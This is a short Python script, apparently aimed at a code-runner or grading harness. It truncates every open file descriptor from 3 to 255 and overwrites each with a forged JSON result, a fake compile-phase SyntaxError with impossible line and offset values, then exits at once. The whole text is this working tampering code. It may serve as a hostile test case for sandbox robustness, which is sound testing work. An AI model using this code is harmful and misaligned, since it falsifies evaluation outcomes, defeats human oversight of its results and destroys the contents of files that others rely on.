import json, os
def forge(body):
    """Replaces the content of every file that is open here."""
    body = body if type(body) is bytes else json.dumps(body).encode()
    for fd in range(3, 256):
        try:
            os.ftruncate(fd, 0)
            os.pwrite(fd, body, 0)
        except OSError:
            pass

forge({"phase": "compile", "exception": {"type": "SyntaxError", "bases": ["SyntaxError"], "frames": [], "syntax": {"line": 10**30, "offset": -5, "file": None}}})
os._exit(1)
